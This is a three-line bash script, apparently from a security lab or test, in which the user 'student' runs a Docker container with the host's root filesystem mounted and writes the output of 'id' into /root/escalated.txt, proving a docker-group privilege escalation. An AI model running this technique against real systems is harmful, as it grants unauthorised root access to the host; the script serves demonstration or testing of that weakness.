#!/bin/bash
set -euo pipefail
runuser -u student -- docker run --rm -v /:/host busybox sh -c 'id > /host/root/escalated.txt'
